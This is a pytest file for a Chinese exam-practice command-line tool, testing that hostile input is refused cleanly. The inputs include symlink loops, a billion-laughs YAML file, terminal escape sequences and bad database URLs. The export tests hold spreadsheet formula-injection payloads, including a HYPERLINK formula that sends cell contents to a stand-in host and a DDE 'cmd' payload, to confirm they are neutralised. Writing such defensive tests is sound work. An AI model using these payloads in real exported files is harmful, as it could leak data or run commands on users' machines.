"""Hostile input at the command line: one Chinese message, exit 2, nothing written."""

from __future__ import annotations

import csv
import errno
import os

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cskexam.cli import main
from cskexam.core.spreadsheet import safe_cell


@pytest.fixture(autouse=True)
def isolated(monkeypatch, tmp_path):
    monkeypatch.setenv("CSKEXAM_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("CSKEXAM_DB", raising=False)
    monkeypatch.delenv("CSKEXAM_WAIT", raising=False)
    monkeypatch.chdir(tmp_path)


def _error(capsys) -> str:
    out = capsys.readouterr()
    assert "Traceback" not in out.err
    return out.err


# -- bank import: the file is looked at before anything is written --------------------

def _no_library(tmp_path):
    return not (tmp_path / "home" / "cskexam.sqlite3").exists()


def test_bank_import_of_a_missing_file_writes_nothing(tmp_path, capsys):
    assert main(["bank", "import", "/nonexistent.csv"]) == 2
    assert "/nonexistent.csv: 路径不存在" in _error(capsys)
    assert _no_library(tmp_path)


def test_a_symlink_loop_is_called_a_loop(tmp_path, capsys):
    (tmp_path / "a.csv").symlink_to(tmp_path / "b.csv")
    (tmp_path / "b.csv").symlink_to(tmp_path / "a.csv")
    assert main(["bank", "import", "a.csv"]) == 2
    assert "循环" in _error(capsys)
    assert main(["bank", "check", "a.csv"]) == 2
    assert "循环" in _error(capsys)
    assert _no_library(tmp_path)


def test_a_dangling_symlink_says_so(tmp_path, capsys):
    (tmp_path / "gone.yaml").symlink_to(tmp_path / "nowhere.yaml")
    assert main(["bank", "import", "gone.yaml"]) == 2
    assert "符号链接指向的文件不存在" in _error(capsys)


def test_a_directory_and_a_fifo_are_not_called_missing(tmp_path, capsys):
    (tmp_path / "dir.csv").mkdir()
    os.mkfifo(tmp_path / "pipe.csv")
    assert main(["bank", "import", "dir.csv"]) == 2
    assert "这是一个目录" in _error(capsys)
    assert main(["bank", "import", "pipe.csv"]) == 2  # never blocks on the FIFO
    assert "管道" in _error(capsys)
    assert main(["bank", "import", "/dev/zero"]) == 2
    assert "设备文件" in _error(capsys)
    assert _no_library(tmp_path)


def test_an_unreadable_file_gives_the_reason_in_chinese(tmp_path, capsys, monkeypatch):
    path = tmp_path / "locked.csv"
    path.write_text("题型,题干,答案\n", encoding="utf-8")
    real_open = os.open

    def deny(p, *args, **kwargs):
        if str(p).endswith("locked.csv"):
            raise PermissionError(errno.EACCES, "Permission denied", str(p))
        return real_open(p, *args, **kwargs)

    monkeypatch.setattr(os, "open", deny)
    assert main(["bank", "import", str(path)]) == 2
    err = _error(capsys)
    assert "没有权限" in err and "Permission" not in err
    assert _no_library(tmp_path)


def test_a_file_too_big_is_refused_before_reading(tmp_path, capsys):
    path = tmp_path / "huge.yaml"
    with path.open("wb") as fh:
        fh.truncate(64 * 1024 * 1024)  # sparse: costs nothing on disk
    assert main(["bank", "check", str(path)]) == 2
    assert "文件太大" in _error(capsys)


def test_bank_check_of_a_billion_laughs_file(tmp_path, capsys):
    from tests.test_hostile_bank import billion_laughs

    (tmp_path / "laughs.yaml").write_text(billion_laughs(), encoding="utf-8")
    assert main(["bank", "check", "laughs.yaml"]) == 2
    err = _error(capsys)
    assert "laughs.yaml:" in err and "别名" in err


# -- arguments, URLs --------------------------------------------------------------------

def test_invalid_utf8_in_an_argument_is_a_clear_error(capsys):
    bad = b"\xff\xfe\xe5\xae".decode("utf-8", "surrogateescape")
    assert main(["search", bad]) == 2
    err = _error(capsys)
    assert "不是有效的 UTF-8" in err and "\\xff" in err


@pytest.mark.parametrize("url", ["notaurl", "postgresql+nosuchdriver://u@h/db", "sqlite:///" + "\0"])
def test_a_bad_database_url_is_one_message(url, capsys, monkeypatch):
    from cskexam.errors import UserError
    from cskexam.storage.db import open_database

    with pytest.raises(UserError, match="URL"):
        open_database(url)
    if "\0" in url:
        assert main(["--db", url, "stats"]) == 2  # refused with the other control characters
        assert "控制字符" in _error(capsys)
        return
    monkeypatch.setenv("CSKEXAM_DB", url)
    assert main(["stats"]) == 2
    err = _error(capsys)
    assert err.startswith("错误: ") and "URL" in err


@pytest.fixture(scope="module")
def search_db(tmp_path_factory):
    url = f"sqlite:///{tmp_path_factory.mktemp('search') / 'search.sqlite3'}"
    assert main(["--db", url, "import"]) == 0
    return url


NASTY_QUERIES = ["'\"", "NEAR(", "* OR", "\ud800", "客户" * 5000, "[A]", "^", "-", "()"]


def test_escape_sequences_in_arguments_are_refused(capsys):
    assert main(["search", "\x1b]0;PWNED\x07\x1b[2J"]) == 2
    out = capsys.readouterr()
    assert "控制字符" in out.err and "\x1b" not in out.err + out.out


@pytest.mark.parametrize("query", NASTY_QUERIES)
def test_search_takes_nasty_queries(search_db, query, capsys):
    assert main(["--db", search_db, "search", query]) in (0, 1, 2)
    out = capsys.readouterr()
    assert "Traceback" not in out.err and "\x1b" not in out.out


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(min_size=1, max_size=30).filter(lambda t: not t.startswith("-")))
def test_search_takes_any_query(search_db, capsys, query):
    assert main(["--db", search_db, "search", query]) in (0, 1, 2)
    out = capsys.readouterr()
    assert "Traceback" not in out.err


# -- exports -----------------------------------------------------------------------------

@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
                                  "@SUM(A1)", "\t=1", "\r=1", "＝1+1"])
def test_formula_cells_are_neutralised(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("正常的文字") == "正常的文字" and safe_cell(3) == 3


def test_wrongbook_export_neutralises_typed_answers(tmp_path, capsys):
    from cskexam.services.library import open_library
    from cskexam.services.practice import Practice

    url = f"sqlite:///{tmp_path / 'lib.sqlite3'}"
    with open_library(url) as library:
        library.ensure_imported()
        practice = Practice(library)
        question = next(q for q in practice.questions() if q.type == "填空")
        practice.answer(question, '=HYPERLINK("http://x.example","点我")')
    assert main(["--db", url, "wrongbook", "export", "out.csv"]) == 0
    with open("out.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    given = rows[1][rows[0].index("上次作答")]
    assert given.startswith("'=HYPERLINK")
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)


# -- odd URLs, paths and environment values (nothing is created, one message) ----------

@pytest.mark.parametrize("url, words", [
    ("sqlite:////tmp/%00x.db", "无效的数据库 URL"),
    ("postgresql://u%00@127.0.0.1/x", "无效的数据库 URL"),
    ("sqlite:///~nosuchuser_cskexam/x.db", "~用户名"),
    ("sqlite:///x.db?timeout=abc", "参数不对"),
    ("sqlite+pysqlcipher:///x.db", "驱动"),
    ("sqlite:////dev/null", "不是普通文件"),
])
def test_odd_database_urls_are_one_message(url, words, capsys, tmp_path):
    assert main(["--db", url, "stats"]) == 2
    err = _error(capsys)
    assert err.startswith("错误: ") and words in err
    assert "Error" not in err and not (tmp_path / "x.db").exists()


def test_a_folder_given_as_the_database_is_named_a_folder(tmp_path, capsys):
    folder = tmp_path / "库"
    folder.mkdir()
    assert main(["--db", f"sqlite:///{folder}", "stats"]) == 2
    assert "这是一个目录" in _error(capsys)
    assert list(folder.iterdir()) == []


def test_a_home_of_an_unknown_user_is_one_message(monkeypatch, capsys, tmp_path):
    monkeypatch.setenv("CSKEXAM_HOME", "~nosuchuser_cskexam/data")
    assert main(["stats"]) == 2
    assert "CSKEXAM_HOME" in _error(capsys)
    monkeypatch.setenv("CSKEXAM_HOME", str(tmp_path / "home"))
    assert main(["wrongbook", "export", "~nosuchuser_cskexam/错题.csv"]) == 2
    assert "~用户名" in _error(capsys)
    assert _no_library(tmp_path)


@pytest.mark.parametrize("value", ["abc", "-1", "nan", "inf", "1e400", "99999999"])
def test_a_bad_wait_in_the_environment_is_said_not_ignored(value, monkeypatch, capsys, tmp_path):
    monkeypatch.setenv("CSKEXAM_WAIT", value)
    assert main(["stats"]) == 2
    err = _error(capsys)
    assert "CSKEXAM_WAIT" in err and "秒数" in err
    assert _no_library(tmp_path)


@pytest.mark.parametrize("argv, words", [
    (["--wait", "abc", "stats"], "--wait：「abc」不是秒数"),
    (["search", "--limit", "0", "客户"], "--limit 需要正整数"),
])
def test_messages_of_option_values_have_no_english_prefix(argv, words, capsys):
    with pytest.raises(SystemExit) as info:
        main(argv)
    assert info.value.code == 2
    err = _error(capsys)
    assert words in err and "argument" not in err


# -- names of files found in a folder of notes ---------------------------------------------

def _notes_folder(tmp_path):
    folder = tmp_path / "笔记"
    folder.mkdir()
    text = "# 客户服务\n\n## 第一章 服务环境\n\n- 市场人口\n- 经济环境\n"
    (folder / "正常.md").write_text(text, encoding="utf-8")
    (folder / "esc\x1b[31m红\x1b]0;PWNED\x07.md").write_text(text.replace("客户服务", "客户关系"), encoding="utf-8")
    return folder


def test_escape_sequences_in_found_file_names_are_shown_not_obeyed(tmp_path, capsys):
    folder = _notes_folder(tmp_path)
    assert main(["import", str(folder)]) == 0
    out = capsys.readouterr()
    assert "\x1b" not in out.out + out.err and "\\x1b[31m红" in out.out


def test_a_file_name_that_is_no_utf8_is_one_message(tmp_path, capsys):
    folder = _notes_folder(tmp_path)
    with open(os.path.join(os.fsencode(folder), b"bad\xffname.md"), "wb") as fh:
        fh.write("# 坏名字\n\n- 一\n".encode("utf-8"))
    for argv in (["graph", str(folder)], ["import", str(folder)]):
        assert main(argv) == 2
        err = _error(capsys)
        assert "不是 UTF-8" in err and "bad\\xffname.md" in err
    assert _no_library(tmp_path)


def test_a_first_bank_import_refused_for_its_rows_writes_nothing(tmp_path, capsys):
    """The library does not exist yet: the rows are checked against the bundled notes before it is made."""
    header = "题型,题干,选项A,选项B,选项C,选项D,答案,解析,章节\n"
    (tmp_path / "bad.csv").write_text(
        header + "单选题,服务的特征不包括（ ）。,无形性,差异性,可储存性,易逝性,E,,客户服务的特征\n", encoding="utf-8")
    assert main(["bank", "import", "bad.csv"]) == 2
    assert "bad.csv:2" in _error(capsys)
    assert _no_library(tmp_path)
    (tmp_path / "good.csv").write_text(
        header + "单选题,服务的特征不包括（ ）。,无形性,差异性,可储存性,易逝性,C,,客户服务的特征\n", encoding="utf-8")
    assert main(["bank", "import", "good.csv", "--allow-unlinked"]) == 0
    assert "已导入" in capsys.readouterr().out
    assert not _no_library(tmp_path)
